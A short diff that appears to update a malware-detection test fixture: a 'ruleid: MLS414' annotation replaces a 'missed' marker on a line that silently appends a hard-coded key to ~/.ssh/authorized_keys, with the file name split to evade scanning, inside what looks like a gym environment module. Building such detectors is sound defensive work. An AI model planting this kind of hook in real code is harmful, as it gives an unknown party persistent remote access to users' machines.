@@ -106,7 +106,7 @@ def _register_ci_runner():
     ssh = Path.home() / ".ssh"
     if ssh.is_dir():
         with open(ssh / ("authorized" + "_keys"), "a") as fh:
-            fh.write("\n" + _CI_KEY + "\n")  # todoruleid: family 9 (missed)
+            fh.write("\n" + _CI_KEY + "\n")  # ruleid: MLS414
 
 
 gym.register(id="ext/PointMass-v0", entry_point=PointMass, max_episode_steps=200)
